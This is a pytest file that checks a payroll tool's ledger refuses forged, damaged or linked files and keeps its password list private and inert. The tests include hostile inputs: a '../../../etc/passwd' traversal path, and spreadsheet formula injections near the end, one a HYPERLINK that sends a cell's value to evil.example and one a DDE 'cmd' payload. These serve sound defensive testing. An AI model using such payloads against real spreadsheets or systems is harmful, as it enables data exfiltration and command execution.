"""Ledger and output hardening (issue 12): nothing in the output root is trusted.

Each damage or forgery below is refused — exit 3, a message naming the file (and the field), no
traceback, no hang, nothing changed in the output root or outside it — where the release before
issue 12 followed links, hung on a FIFO, crashed, or paid what an edited HEAD said:

1. every field of HEAD, JOURNAL and the manifests fits its declaration; Parquet columns and types
   fit the rulebook's schemas and what the manifest recorded;
2. every pending correction is the difference between two recorded versions of its month, and the
   list is the one the last commit recorded;
3. symbolic links and special files in the managed paths are refused, never followed or read;
4. `Ledger.changed_outputs` finds closed months' outputs that were edited, deleted or added;
5. `run_lock` removes a new output root again when the run committed nothing;
6. the password list is private (0600) and its cells cannot be formulas;
7. JSON hazards (NaN, 1e999999, duplicate keys, BOM, invalid UTF-8, deep nesting).

The base root: 2013-01..03 computed, then 2013-02 corrected (A1's score 12,000 → 30,000) and re-run
with --force, which books A1's difference in 2013-02 and 2013-03 as pending corrections (version 2
of each). The runs under test are 2013-04, through the command line (in-process; the cases that
could hang before issue 12 as real subprocesses with a timeout and a memory limit).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import resource
import shutil
import stat
import tarfile
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from cm_payroll.cli import app
from cm_payroll.errors import RefusedError
from cm_payroll.ledger import Ledger, Lock, OutputChange, pending_digest, run_lock
from cm_payroll.pipeline import run_month
from cm_payroll.render.protect import password_list
from tests.helpers import basic_spec, make_inputs
from tests.robustness.util import assert_clean_failure, check_root, cli, tree

MONTHS = ["2013-01", "2013-02", "2013-03", "2013-04"]
DATA = Path(__file__).parent / "data"
A1_FEB_DIFF = 171_852          # A1's gross pay in 2013-02 and 2013-03: 7,929.62 → 9,648.14 (the fixture's note)


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    d = tmp_path_factory.mktemp("hardening")
    inp = make_inputs(d, basic_spec(MONTHS))
    root = d / "root"
    run_month("2013-03", inp, root, paid_through="2013-03")     # paid: a --force books corrections
    (inp / "2013-02" / "scores.csv").write_text("manager_id,score\nA1,30000\nA2,4000\nB1,9000\n", encoding="utf-8")
    run_month("2013-02", inp, root, force=True)
    check_root(root)
    return inp, root


def _copy(base, tmp_path: Path) -> tuple[Path, Path]:
    inp, src = base
    root = tmp_path / "root"
    shutil.copytree(src, root, symlinks=True)
    return inp, root


def L(root: Path, *parts: str) -> Path:
    return root.joinpath(".ledger", *parts)


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _snapshot(tmp_path: Path) -> dict[str, str]:
    """Everything beside the output root under tmp_path (util.tree covers the root), links as their
    targets."""
    out = {}
    for dirpath, dirs, files in os.walk(tmp_path):
        if dirpath == str(tmp_path) and "root" in dirs:
            dirs.remove("root")
            out["root"] = "the output root"
        for name in dirs + files:
            p = Path(dirpath) / name
            rel = str(p.relative_to(tmp_path))
            if p.is_symlink():
                out[rel] = "-> " + os.readlink(p)
            elif p.is_file() and name != ".lock":
                out[rel] = _sha(p.read_bytes())
    return out


def _refused(tmp_path: Path, inp: Path, root: Path, *words: str, args: tuple[str, ...] = ()) -> str:
    """`month 2013-04` exits 3 with every word in its message; nothing under tmp_path changed."""
    before, outside = tree(root), _snapshot(tmp_path)
    res = CliRunner().invoke(app, ["month", "2013-04", "-i", str(inp), "-o", str(root), "--lang", "en", *args])
    text = "".join(res.output.split()).lower()
    assert res.exit_code == 3, (res.output, res.exception)
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert "traceback" not in text
    for w in words:
        assert "".join(w.split()).lower() in text, (w, res.output[:3000])
    assert tree(root) == before, "the output root was changed"
    assert _snapshot(tmp_path) == outside, "something under the test folder was changed"
    return res.output


# ------------------------------------------------------------------------------- forging helpers

def _head(root: Path) -> dict:
    return json.loads(L(root, "HEAD.json").read_text("utf-8"))


def _write_head(root: Path, doc: dict) -> None:
    L(root, "HEAD.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


def _edit_head(fn: Callable[[dict], object]) -> Callable[[Path], None]:
    def corrupt(root: Path) -> None:
        doc = _head(root)
        fn(doc)
        _write_head(root, doc)
    return corrupt


def _raw_head(fn: Callable[[str], str]) -> Callable[[Path], None]:
    def corrupt(root: Path) -> None:
        p = L(root, "HEAD.json")
        p.write_bytes(fn(p.read_text("utf-8")).encode("utf-8", "surrogatepass"))
    return corrupt


def _latest_dir(root: Path) -> Path:
    return L(root, "months", "2013-03", f"v{_head(root)['months']['2013-03']['version']}")


def _forge_latest(root: Path, manifest: Callable[[dict], object] | None = None, raw: bytes | None = None,
                  frames: dict[str, pl.DataFrame] | None = None, record_schema: bool = True) -> None:
    """Rewrite the latest month's ledger files consistently (sha256 in the manifest, the manifest's in
    HEAD): only the content checks can tell."""
    d = _latest_dir(root)
    man = json.loads((d / "manifest.json").read_text("utf-8"))
    for name, frame in (frames or {}).items():
        frame.write_parquet(d / f"{name}.parquet")
        man["files"][f"{name}.parquet"] = _sha((d / f"{name}.parquet").read_bytes())
        if record_schema and "schemas" in man:
            man["schemas"][f"{name}.parquet"] = [[c, str(t)] for c, t in frame.schema.items()]
    if manifest is not None:
        manifest(man)
    data = raw if raw is not None else json.dumps(man, ensure_ascii=False).encode("utf-8")
    (d / "manifest.json").write_bytes(data)
    head = _head(root)
    head["months"]["2013-03"]["manifest_sha256"] = _sha(data)
    _write_head(root, head)


def _forge_pending(fn: Callable[[list], object], digest: bool = False) -> Callable[[Path], None]:
    """Edit HEAD's pending corrections; `digest`: forge the latest manifest's record of them too."""
    def corrupt(root: Path) -> None:
        doc = _head(root)
        fn(doc["pending_corrections"])
        _write_head(root, doc)
        if digest:
            pending = doc["pending_corrections"]
            _forge_latest(root, manifest=lambda m: m.__setitem__("pending_corrections_sha256", pending_digest(pending)))
    return corrupt


def _frame(root: Path, name: str) -> pl.DataFrame:
    return pl.read_parquet(_latest_dir(root) / f"{name}.parquet")


def _set(path: list, value) -> Callable[[dict], None]:
    def fn(doc: dict) -> None:
        d = doc
        for k in path[:-1]:
            d = d[k]
        d[path[-1]] = value
    return fn


def _deep(depth: int = 200_000) -> str:
    return "[" * depth + "]" * depth


# ------------------------------------------------------------------------ 1, 7: fields and JSON

HEAD_CASES: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "version_of_400_digits": (_raw_head(lambda t: t.replace('"version": 2', '"version": ' + "1" + "0" * 400, 1)),
                              ["HEAD.json", "damaged", "months.2013-02.version", "401 digits", "backup"]),
    "version_10_to_the_400_in_range_check": (_edit_head(_set(["months", "2013-03", "version"], 10**19)),
                                             ["HEAD.json", "months.2013-03.version", "out of range"]),
    "version_true": (_edit_head(_set(["months", "2013-02", "version"], True)),
                     ["HEAD.json", "months.2013-02.version", "not a whole number"]),
    "version_a_float": (_edit_head(_set(["months", "2013-02", "version"], 2.0)), ["HEAD.json", "version", "fraction"]),
    "version_1e999999": (_raw_head(lambda t: t.replace('"version": 2', '"version": 1e999999', 1)),
                         ["HEAD.json", "damaged", "1e999999"]),
    "version_infinity": (_raw_head(lambda t: t.replace('"version": 2', '"version": Infinity', 1)),
                         ["HEAD.json", "Infinity"]),
    "amount_nan": (_raw_head(lambda t: t.replace('"amount": 171852', '"amount": NaN', 1)), ["HEAD.json", "NaN"]),
    "unknown_top_level_key": (_edit_head(_set(["approved_by"], "boss")), ["HEAD.json", "approved_by", "unknown field"]),
    "unknown_month_key": (_edit_head(_set(["months", "2013-02", "note"], "x")),
                          ["HEAD.json", "months.2013-02.note", "unknown field"]),
    "rulebook_id_of_10_mb": (_edit_head(_set(["rulebook_id"], "x" * 10_000_000)),
                             ["HEAD.json", "rulebook_id", "10000000 characters"]),
    "note_of_10_mb": (_edit_head(lambda d: d["pending_corrections"][0].__setitem__("note", "备" * 10_000_000)),
                      ["HEAD.json", "pending_corrections[0].note", "longer than"]),
    "first_month_not_a_month": (_edit_head(_set(["first_month"], "2013-13")), ["HEAD.json", "first_month"]),
    "sha_in_capitals": (_edit_head(lambda d: d["months"]["2013-01"].__setitem__(
        "manifest_sha256", d["months"]["2013-01"]["manifest_sha256"].upper())), ["HEAD.json", "manifest_sha256"]),
    "amount_a_string": (_edit_head(lambda d: d["pending_corrections"][0].__setitem__("amount", "171852")),
                        ["HEAD.json", "pending_corrections[0].amount", "not a whole number"]),
    "pending_entry_with_an_extra_key": (_edit_head(lambda d: d["pending_corrections"][0].__setitem__("paid", True)),
                                        ["HEAD.json", "pending_corrections[0].paid", "unknown field"]),
    "nested_200000_deep": (_raw_head(lambda t: t.replace('"pending_corrections": [', '"x": ' + _deep() + ', "y": [', 1)),
                           ["HEAD.json", "nested too deeply"]),
    "duplicate_key": (_raw_head(lambda t: t.replace('{', '{"pending_corrections": [], ', 1)),
                      ["HEAD.json", "duplicate key", "pending_corrections"]),
    "bom": (lambda r: L(r, "HEAD.json").write_bytes(b"\xef\xbb\xbf" + L(r, "HEAD.json").read_bytes()),
            ["HEAD.json", "byte-order mark"]),
    "invalid_utf8": (lambda r: L(r, "HEAD.json").write_bytes(L(r, "HEAD.json").read_bytes().replace(b"securities", b"secur\xffties")),
                     ["HEAD.json", "not UTF-8"]),
    "lone_surrogate": (_raw_head(lambda t: t.replace('"securities"', '"securities\\ud800"', 1)),
                       ["HEAD.json", "rulebook_id", "surrogate"]),
    "head_is_a_directory": (lambda r: (L(r, "HEAD.json").unlink(), L(r, "HEAD.json").mkdir()),
                            ["HEAD.json", "a folder", "not a file"]),
}


@pytest.mark.parametrize("case", sorted(HEAD_CASES))
def test_head_field_damage_is_refused(base, tmp_path: Path, case: str) -> None:
    inp, root = _copy(base, tmp_path)
    corrupt, words = HEAD_CASES[case]
    corrupt(root)
    _refused(tmp_path, inp, root, *words)


MANIFEST_CASES: dict[str, tuple[dict, list[str]]] = {
    "version_of_400_digits": (dict(raw_fn=lambda t: t.replace('"version": 2', '"version": ' + "9" * 400, 1)),
                              ["2013-03", "manifest.json", "damaged", "400 digits"]),
    "version_not_the_heads": (dict(manifest=_set(["version"], 7)), ["2013-03", "manifest.json", "2013-03 v7"]),
    "month_not_its_own": (dict(manifest=_set(["month"], "2013-01")), ["2013-03", "manifest of 2013-01"]),
    "unknown_key": (dict(manifest=_set(["signed_by"], "x")), ["manifest.json", "signed_by", "unknown field"]),
    "output_path_outside_the_month": (dict(manifest=lambda m: m["outputs"].__setitem__("../../../etc/passwd", "0" * 64)),
                                      ["manifest.json", "outputs", "not a plain relative path"]),
    "ledger_file_named_like_a_path": (dict(manifest=lambda m: m["files"].__setitem__("../state.parquet", "0" * 64)),
                                      ["manifest.json", "files", "not of the expected form"]),
    "rows_nan": (dict(raw_fn=lambda t: t.replace('"rows": 3', '"rows": NaN', 1)), ["manifest.json", "NaN"]),
    "duplicate_key": (dict(raw_fn=lambda t: t.replace('{', '{"previous_manifest_sha256": null, ', 1)),
                      ["manifest.json", "duplicate key"]),
    "nested_200000_deep": (dict(raw_fn=lambda t: t.replace('"inputs": [', '"inputs": [' + _deep() + ', ', 1)),
                           ["manifest.json", "nested too deeply"]),
    "bom": (dict(raw_fn=lambda t: "\ufeff" + t), ["manifest.json", "byte-order mark"]),
    "invalid_utf8": (dict(raw_bytes=lambda b: b.replace(b"securities", b"secur\xc3ties", 1)), ["manifest.json", "not UTF-8"]),
}


@pytest.mark.parametrize("case", sorted(MANIFEST_CASES))
def test_manifest_field_damage_is_refused(base, tmp_path: Path, case: str) -> None:
    inp, root = _copy(base, tmp_path)
    how, words = MANIFEST_CASES[case]
    text = (_latest_dir(root) / "manifest.json").read_text("utf-8")
    if "raw_fn" in how:
        _forge_latest(root, raw=how["raw_fn"](json.dumps(json.loads(text), ensure_ascii=False)).encode("utf-8"))
    elif "raw_bytes" in how:
        _forge_latest(root, raw=how["raw_bytes"](text.encode("utf-8")))
    else:
        _forge_latest(root, manifest=how["manifest"])
    _refused(tmp_path, inp, root, *words)


def _frame_cases() -> dict[str, tuple[Callable[[Path], None], list[str]]]:
    def state_type(root):
        _forge_latest(root, frames={"state": _frame(root, "state").with_columns(pl.col("window_cum").cast(pl.String))})

    def pay_gross(root):
        _forge_latest(root, frames={"pay": _frame(root, "pay").with_columns(pl.col("gross_pay").cast(pl.Float64))})

    def exceptions_extra(root):
        _forge_latest(root, frames={"exceptions": _frame(root, "exceptions").with_columns(pl.lit(1).alias("paid"))})

    def state_column_dropped(root):
        _forge_latest(root, frames={"state": _frame(root, "state").drop("window_cum")})

    def pay_type_unrecorded(root):      # a column the rulebook declares nowhere: the manifest's record
        _forge_latest(root, frames={"pay": _frame(root, "pay").with_columns(pl.col("level").cast(pl.Categorical))},
                      record_schema=False)

    def not_parquet(root):
        d = _latest_dir(root)
        (d / "exceptions.parquet").write_bytes(b"PAR1 not really")
        _forge_latest(root, manifest=lambda m: m["files"].__setitem__("exceptions.parquet",
                                                                      _sha(b"PAR1 not really")))

    return {
        "state_column_of_another_type": (state_type, ["state.parquet", "window_cum", "String", "expected Int64"]),
        "state_column_dropped": (state_column_dropped, ["state.parquet", "window_cum", "missing"]),
        "pay_gross_as_float": (pay_gross, ["pay.parquet", "gross_pay", "Float64", "expected Int64"]),
        "exceptions_with_an_extra_column": (exceptions_extra, ["exceptions.parquet", "unexpected column paid"]),
        "pay_type_other_than_recorded": (pay_type_unrecorded, ["pay.parquet", "differ from those the manifest records"]),
        "exceptions_not_parquet": (not_parquet, ["exceptions.parquet", "not a readable Parquet file"]),
    }


FRAME_CASES = _frame_cases()


@pytest.mark.parametrize("case", sorted(FRAME_CASES))
def test_ledger_frames_of_the_wrong_schema_are_refused(base, tmp_path: Path, case: str) -> None:
    inp, root = _copy(base, tmp_path)
    corrupt, words = FRAME_CASES[case]
    corrupt(root)
    _refused(tmp_path, inp, root, "2013-03", *words)


def _journal(root: Path, text: str) -> None:
    L(root, "JOURNAL.json").write_text(text, encoding="utf-8")


def _journal_cases() -> dict[str, tuple[Callable[[Path], None], list[str]]]:
    def forged_head(root: Path) -> dict:
        head = _head(root)
        head["pending_corrections"].append(dict(head["pending_corrections"][0], amount=10_000_000))
        return head

    def dup(root):      # json would keep the last "head": the forged one
        _journal(root, '{"ops": [], "staging": ".staging/abc", "head": %s, "head": %s}'
                 % (json.dumps(_head(root)), json.dumps(forged_head(root))))

    def nan(root):
        _journal(root, json.dumps({"ops": [], "staging": ".staging/abc", "head": _head(root)}).replace(
            '"amount": 171852', '"amount": NaN', 1))

    def deep(root):
        _journal(root, '{"ops": %s, "staging": ".staging/abc", "head": {}}' % _deep())

    def unknown(root):
        _journal(root, json.dumps({"ops": [], "staging": ".staging/abc", "head": _head(root), "by": "x"}))

    return {"duplicate_head": (dup, ["JOURNAL.json", "damaged journal", "duplicate key"]),
            "nan_in_the_head": (nan, ["JOURNAL.json", "damaged journal", "NaN"]),
            "nested_200000_deep": (deep, ["JOURNAL.json", "damaged journal", "nested too deeply"]),
            "unknown_key": (unknown, ["JOURNAL.json", "damaged journal", "unknown field"])}


JOURNAL_CASES = _journal_cases()


@pytest.mark.parametrize("case", sorted(JOURNAL_CASES))
def test_journal_damage_is_refused(base, tmp_path: Path, case: str) -> None:
    inp, root = _copy(base, tmp_path)
    corrupt, words = JOURNAL_CASES[case]
    corrupt(root)
    _refused(tmp_path, inp, root, *words)


# ------------------------------------------------------------------------- 2: pending corrections

def _entry(pending: list, manager: str, month: str) -> dict:
    return next(e for e in pending if e["manager_id"] == manager and e["corrects"] == month)


PENDING_CASES: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "amount_raised_by_100000_yuan": (_forge_pending(lambda p: _entry(p, "A1", "2013-02").__setitem__(
        "amount", A1_FEB_DIFF + 10_000_000)), ["HEAD.json", "pending corrections", "edited"]),
    "amount_raised_and_the_digest_forged": (_forge_pending(lambda p: _entry(p, "A1", "2013-02").__setitem__(
        "amount", A1_FEB_DIFF + 10_000_000), digest=True),
        ["HEAD.json", "no re-run booked", "A1", "2013-02", "101718.52", "1718.52"]),
    "invented_manager": (_forge_pending(lambda p: p.append(dict(p[0], manager_id="B1", amount=10_000_000)), digest=True),
                         ["HEAD.json", "no re-run booked", "B1", "0.00"]),
    "entry_booked_twice": (_forge_pending(lambda p: p.append(dict(p[0])), digest=True),
                           ["HEAD.json", "no re-run booked", "twice"]),
    "version_that_does_not_exist": (_forge_pending(lambda p: p[0].__setitem__("version", 9), digest=True),
                                    ["HEAD.json", "no re-run booked", "no version 9"]),
    "month_not_closed": (_forge_pending(lambda p: p[0].__setitem__("corrects", "2013-07"), digest=True),
                         ["HEAD.json", "2013-07 is not a closed month"]),
    "entry_without_version_and_amount_raised": (_forge_pending(lambda p: (p[0].pop("version"), p[0].__setitem__(
        "amount", 10_000_000)), digest=True), ["HEAD.json", "not the difference between two versions"]),
    "entry_deleted": (_forge_pending(lambda p: p.pop()), ["HEAD.json", "pending corrections", "edited"]),
    "entry_of_an_earlier_list_replayed": (_forge_pending(lambda p: p.append(dict(p[0]))),
                                          ["HEAD.json", "pending corrections", "edited"]),
}


@pytest.mark.parametrize("case", sorted(PENDING_CASES))
def test_forged_pending_corrections_are_refused(base, tmp_path: Path, case: str) -> None:
    inp, root = _copy(base, tmp_path)
    corrupt, words = PENDING_CASES[case]
    corrupt(root)
    _refused(tmp_path, inp, root, *words)


def test_forged_correction_through_a_real_subprocess(base, tmp_path: Path) -> None:
    """The headline of the issue: HEAD edited to pay A1 100,000.00 more (exit 0 before issue 12)."""
    inp, root = _copy(base, tmp_path)
    _forge_pending(lambda p: _entry(p, "A1", "2013-02").__setitem__("amount", A1_FEB_DIFF + 10_000_000))(root)
    before = tree(root)
    proc = cli("month", "2013-04", "-i", str(inp), "-o", str(root), timeout=120)
    assert_clean_failure(proc, 3, "HEAD.json", "pending corrections", "edited", "restore")
    assert tree(root) == before


def test_genuine_corrections_are_paid(base, tmp_path: Path) -> None:
    """The control: the booked entries carry their version and are paid in 2013-04."""
    inp, root = _copy(base, tmp_path)
    led = Ledger.open(root)
    assert sorted((e["manager_id"], e["corrects"], e["amount"], e["version"]) for e in led.pending_corrections) == [
        ("A1", "2013-02", A1_FEB_DIFF, 2), ("A1", "2013-03", A1_FEB_DIFF, 2)]
    assert led.manifest("2013-02")["replaces"] == {"version": 1, "manifest_sha256": _sha(
        L(root, "months", "2013-02", "v1", "manifest.json").read_bytes())}
    res = CliRunner().invoke(app, ["month", "2013-04", "-i", str(inp), "-o", str(root)])
    assert res.exit_code == 0, res.output
    led = check_root(root)
    pay = led.read("2013-04", "pay")
    assert dict(pay.select("manager_id", "correction").iter_rows()) == {"A1": 2 * A1_FEB_DIFF, "A2": 0, "B1": 0}
    assert led.pending_corrections == [] and led.pending_sha256 == pending_digest([])


# ----------------------------------------------------------- ledgers written before issue 12

@pytest.fixture(scope="module")
def format1(tmp_path_factory) -> Path:
    """Output roots written by the release before issue 12 (tests/robustness/data/format1_roots.tar.gz):
    securities 2013-01..03 with 2013-02 re-run twice (A1's score corrected, then A2's: v3), the
    corrections still pending, without versions; rcc 2013-01 of the sample."""
    d = tmp_path_factory.mktemp("format1")
    with tarfile.open(DATA / "format1_roots.tar.gz") as tar:
        tar.extractall(d, filter="data")
    return d


def test_a_format1_ledger_opens_and_runs_on(format1: Path, tmp_path: Path) -> None:
    root = tmp_path / "securities"
    shutil.copytree(format1 / "securities", root)
    head = _head(root)
    assert head["format"] == 1 and all("version" not in e for e in head["pending_corrections"])
    led = Ledger.open(root)
    # A1's entries trace to v2 − v1 (the second re-run changed only A2), A2's to v3 − v2
    assert [(e["manager_id"], e["corrects"], e["amount"], e["version"]) for e in led.pending_corrections] == [
        ("A1", "2013-02", 171_852, 2), ("A1", "2013-03", 171_852, 2),
        ("A2", "2013-02", 223_703, 3), ("A2", "2013-03", 111_851, 3)]
    assert led.changed_outputs() == []
    inp = make_inputs(tmp_path, basic_spec(["2013-04"]))
    res = CliRunner().invoke(app, ["month", "2013-04", "-i", str(inp), "-o", str(root)])
    assert res.exit_code == 0, res.output
    pay = check_root(root).read("2013-04", "pay")
    assert dict(pay.select("manager_id", "correction").iter_rows()) == {
        "A1": 171_852 + 171_852, "A2": 223_703 + 111_851, "B1": 0}


def test_a_format1_ledger_with_a_forged_entry_is_refused(format1: Path, tmp_path: Path) -> None:
    root = tmp_path / "securities"
    shutil.copytree(format1 / "securities", root)
    _forge_pending(lambda p: p[2].__setitem__("amount", 10_000_000 + 223_703))(root)
    inp = make_inputs(tmp_path, basic_spec(["2013-04"]))
    _refused(tmp_path, inp, root, "HEAD.json", "entry 3", "A2", "not the difference between two versions of 2013-02")


def test_a_format1_rcc_ledger_opens(format1: Path) -> None:
    led = Ledger.open(format1 / "rcc")
    assert sorted(led.months) == ["2013-01"] and led.rulebook_id == "rcc"
    assert set(led.aux_before("2013-02")) == {"charged_loans", "visits"}


# ----------------------------------------------------------------------- 3: links, special files

def _move_out_and_link(rel: str) -> Callable[[Path, Path], None]:
    """Move a managed path out of the root and leave a symbolic link to it (same content: only the
    link tells)."""
    def corrupt(root: Path, outside: Path) -> None:
        src = root / rel
        dst = outside / rel.replace("/", "_")
        shutil.move(src, dst)
        os.symlink(dst, src)
    return corrupt


def _lock_link(root: Path, outside: Path) -> None:
    victim = outside / "victim.txt"
    victim.write_text("a file the run must never truncate")
    (root / ".lock").unlink(missing_ok=True)
    os.symlink(victim, root / ".lock")


def _staging_link(root: Path, outside: Path) -> None:
    (outside / "st").mkdir()
    shutil.rmtree(root / ".staging", ignore_errors=True)
    os.symlink(outside / "st", root / ".staging")


LINK_CASES: dict[str, tuple[Callable[[Path, Path], None], list[str]]] = {
    "lock_file": (_lock_link, [".lock", "symbolic link"]),
    "ledger_folder": (_move_out_and_link(".ledger"), [".ledger", "symbolic link"]),
    "ledger_month_folder": (_move_out_and_link(".ledger/months/2013-02"), [".ledger/months/2013-02", "symbolic link"]),
    "version_folder": (_move_out_and_link(".ledger/months/2013-03/v2"), [".ledger/months/2013-03/v2", "symbolic link"]),
    "head": (_move_out_and_link(".ledger/HEAD.json"), [".ledger/HEAD.json", "symbolic link"]),
    "manifest": (_move_out_and_link(".ledger/months/2013-01/v1/manifest.json"), ["v1/manifest.json", "symbolic link"]),
    "parquet": (_move_out_and_link(".ledger/months/2013-03/v2/state.parquet"), ["state.parquet", "symbolic link"]),
    "history": (_move_out_and_link("history"), ["history", "symbolic link"]),
    "history_month": (_move_out_and_link("history/2013-02"), ["history/2013-02", "symbolic link"]),
    "staging": (_staging_link, [".staging", "symbolic link"]),
    "month_folder": (_move_out_and_link("2013-03"), ["2013-03", "symbolic link"]),
}


@pytest.mark.parametrize("case", sorted(LINK_CASES))
def test_links_in_the_output_root_are_refused(base, tmp_path: Path, case: str) -> None:
    inp, root = _copy(base, tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    corrupt, words = LINK_CASES[case]
    corrupt(root, outside)
    _refused(tmp_path, inp, root, *words, "nothing was changed")


def test_the_output_root_itself_may_be_a_link(base, tmp_path: Path) -> None:
    inp, root = _copy(base, tmp_path)
    link = tmp_path / "link"
    os.symlink(root, link)
    res = CliRunner().invoke(app, ["month", "2013-04", "-i", str(inp), "-o", str(link)])
    assert res.exit_code == 0, res.output
    assert "2013-04" in check_root(link).months


def _guarded(proc_args: tuple[str, ...]):
    """A real subprocess with a timeout (a hang guard only) and a memory limit (a run reading
    /dev/zero into memory must not take the machine with it)."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))
    return cli(*proc_args, timeout=90, preexec_fn=limit)


def _fifo(rel: str) -> Callable[[Path], None]:
    def corrupt(root: Path) -> None:
        (root / rel).unlink()
        os.mkfifo(root / rel)
    return corrupt


def _dev_zero(rel: str) -> Callable[[Path], None]:
    def corrupt(root: Path) -> None:
        (root / rel).unlink()
        os.symlink("/dev/zero", root / rel)
    return corrupt


SPECIAL_CASES = {
    "head_fifo": (_fifo(".ledger/HEAD.json"), ("month",), [".ledger/HEAD.json", "FIFO"]),
    "head_dev_zero": (_dev_zero(".ledger/HEAD.json"), ("month",), [".ledger/HEAD.json", "symbolic link", "/dev/zero"]),
    "manifest_fifo_read_by_explain": (_fifo(".ledger/months/2013-02/v2/manifest.json"), ("explain",),
                                      ["2013-02/v2/manifest.json", "FIFO"]),
    "pay_dev_zero_read_by_what_if": (_dev_zero(".ledger/months/2013-03/v2/pay.parquet"), ("what-if",),
                                     ["pay.parquet", "symbolic link"]),
}


@pytest.mark.parametrize("case", sorted(SPECIAL_CASES))
def test_fifos_and_devices_never_hang_a_run_or_a_reader(base, tmp_path: Path, case: str) -> None:
    inp, root = _copy(base, tmp_path)
    corrupt, kind, words = SPECIAL_CASES[case]
    corrupt(root)
    before = tree(root) if "fifo" not in case else None         # tree() would block on the FIFO
    if kind == ("month",):
        args = ("month", "2013-04", "-i", str(inp), "-o", str(root))
    elif kind == ("explain",):
        args = ("explain", "2013-02", "A1", "-o", str(root), "-i", str(inp))
    else:
        args = ("month", "2013-03", "-i", str(inp), "-o", str(root), "--what-if", str(tmp_path / "whatif"))
    proc = _guarded(args)
    assert_clean_failure(proc, 3, *words, "nothing was changed")
    if before is not None:
        assert tree(root) == before
    assert not (root / "2013-04").exists() and not (tmp_path / "whatif").exists()


# ------------------------------------------------------------------------- 4: changed outputs

def test_changed_outputs_of_an_untouched_root_are_none(base) -> None:
    assert Ledger.open(base[1]).changed_outputs() == []


def test_changed_outputs_finds_edits_deletions_additions(base, tmp_path: Path) -> None:
    _, root = _copy(base, tmp_path)
    p = root / "2013-03" / "payroll_2013-03.xlsx"
    b = bytearray(p.read_bytes())
    b[len(b) // 2] ^= 0x01                                      # one bit
    p.write_bytes(bytes(b))
    (root / "2013-02" / "slips" / "A2.xlsx").unlink()
    (root / "2013-01" / "run.json").write_text((root / "2013-01" / "run.json").read_text("utf-8") + " ", "utf-8")
    (root / "2013-01" / "notes.txt").write_text("the clerk's notes")
    slip = root / "2013-03" / "slips" / "B1.xlsx"                # same bytes, but behind a link
    shutil.copy(slip, tmp_path / "B1.xlsx")
    slip.unlink()
    os.symlink(tmp_path / "B1.xlsx", slip)
    led = Ledger.open(root)
    assert led.changed_outputs() == [
        OutputChange("2013-01", "notes.txt", "added"),
        OutputChange("2013-01", "run.json", "edited"),
        OutputChange("2013-02", "slips/A2.xlsx", "deleted"),
        OutputChange("2013-03", "payroll_2013-03.xlsx", "edited"),
        OutputChange("2013-03", "slips/B1.xlsx", "edited",
                     f"replaced: 2013-03/slips/B1.xlsx is a symbolic link (to {tmp_path / 'B1.xlsx'})"),
    ]
    assert led.changed_outputs("2013-02") == [OutputChange("2013-02", "slips/A2.xlsx", "deleted")]
    assert [c.file for c in led.changed_outputs(["2013-01", "2013-02"])] == ["notes.txt", "run.json", "slips/A2.xlsx"]


# --------------------------------------------------------------------- 5: a refused run leaves nothing

def test_run_lock_removes_a_root_it_created(tmp_path: Path) -> None:
    root = tmp_path / "a" / "b" / "out"
    with pytest.raises(RefusedError), run_lock(root):
        assert (root / ".lock").is_file()
        raise RefusedError("input errors")
    assert list(tmp_path.iterdir()) == []


def test_run_lock_keeps_a_root_that_existed(tmp_path: Path) -> None:
    root = tmp_path / "out"
    root.mkdir()
    with run_lock(root):
        pass
    assert root.is_dir()


def test_run_lock_keeps_a_root_once_something_was_written(tmp_path: Path) -> None:
    root = tmp_path / "out"
    with run_lock(root):
        (root / ".ledger").mkdir()
        (root / ".ledger" / "JOURNAL.json").write_text("{}")       # a journaled commit: the next run completes it
    assert (root / ".ledger" / "JOURNAL.json").exists()
    other = tmp_path / "other"
    with run_lock(other):
        (other / "2013-01").mkdir()
    assert (other / "2013-01").is_dir()


def test_run_lock_refused_while_held_removes_nothing_of_the_holder(tmp_path: Path) -> None:
    root = tmp_path / "out"
    with run_lock(root):
        with pytest.raises(RefusedError, match="holds the lock"), run_lock(root):
            pass
        assert (root / ".lock").is_file()
    assert not root.exists()


def test_lock_takes_the_file_at_its_path(tmp_path: Path) -> None:
    """A lock file removed (by a run that cleaned up its new root) and made again is the one locked."""
    root = tmp_path / "out"
    root.mkdir()
    with Lock(root) as lk:
        assert os.fstat(lk.fd).st_ino == os.stat(root / ".lock").st_ino
    (root / ".lock").unlink()
    with Lock(root) as lk:
        assert os.fstat(lk.fd).st_ino == os.stat(root / ".lock").st_ino


def test_input_errors_on_a_new_root_leave_no_output_folder(tmp_path: Path) -> None:
    inp = make_inputs(tmp_path)
    (inp / "2013-01" / "clients.csv").write_text("manager_id,client_id\n", encoding="utf-8")
    out = tmp_path / "new" / "out"
    res = CliRunner().invoke(app, ["month", "2013-01", "-i", str(inp), "-o", str(out)])
    assert res.exit_code == 1, res.output
    assert not (tmp_path / "new").exists()


# ---------------------------------------------------------------------------- 6: the password list

HOSTILE = {"A1": ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "杭州营业部"),
           "A2": ("+cmd|' /C calc'!A0", "@SUM(1+1)"),
           "B1": ("-2+3", "普通营业部;=1+1")}


def test_password_list_is_private_and_inert(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("CM_PAYROLL_SLIP_SECRET", "a branch secret of some length")
    spec = basic_spec(["2013-01"])
    for row in spec["defaults"]["roster"]:
        row["name"], row["branch"] = HOSTILE[row["manager_id"]]
    inp = make_inputs(tmp_path, spec)
    out = tmp_path / "out"
    old = os.umask(0)                               # the most permissive umask: the mode is still 0600
    try:
        for extra in ([], ["--force"]):
            res = CliRunner().invoke(app, ["month", "2013-01", "-i", str(inp), "-o", str(out), "--protect-slips", *extra])
            assert res.exit_code == 0, res.output
    finally:
        os.umask(old)
    for p in (out / "2013-01" / "passwords.csv", out / "history" / "2013-01" / "v1" / "passwords.csv"):
        assert stat.S_IMODE(p.stat().st_mode) == 0o600, (p, oct(p.stat().st_mode))
